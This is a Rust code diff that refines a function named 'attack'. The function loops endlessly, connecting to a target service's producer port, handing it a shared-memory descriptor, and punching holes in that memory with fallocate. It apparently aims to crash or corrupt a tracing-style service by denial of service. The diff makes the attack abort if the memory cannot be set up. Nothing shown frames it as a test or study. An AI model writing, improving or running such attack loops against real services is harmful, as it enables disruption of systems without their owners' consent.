@@ -22,10 +22,11 @@ const PAGE_BYTES: u64 = 4096;
 
 /// Connects with such memory and leaves, again and again.
 pub(super) fn attack(target: &Target) -> Infallible {
-    let memory = memory();
+    // Without it this user would attack less than it should, and nobody would see it: the siege ends then.
+    let memory = memory().unwrap_or_else(|| std::process::exit(1));
     loop {
         let connected = SocketConnection::<ProducerPort>::connect(&target.producers);
-        let (Ok(mut link), Some(memory)) = (connected, &memory) else { continue };
+        let Ok(mut link) = connected else { continue };
         let hello = InitializeConnectionRequest {
             producer_name: Some("mappings".into()),
             shared_memory_page_size_hint_bytes: Some(PAGE_BYTES as u32),
@@ -37,7 +38,7 @@ pub(super) fn attack(target: &Target) -> Infallible {
         let _ = link.send(Request::InitializeConnection(hello), true, attachment);
         for _ in 0..4 {
             let free = FallocateFlags::PUNCH_HOLE | FallocateFlags::KEEP_SIZE;
-            let _ = fallocate(memory, free, 0, MEMORY_BYTES);
+            let _ = fallocate(&memory, free, 0, MEMORY_BYTES);
         }
     }
 }
@@ -53,9 +54,7 @@ fn memory() -> Option<OwnedFd> {
         let mapped = unsafe {
             mmap(std::ptr::null_mut(), PAGE_BYTES as usize, access, shared, &memory, offset)
         };
-        if mapped.is_err() {
-            break;
-        }
+        mapped.ok()?;
     }
     Some(memory)
 }
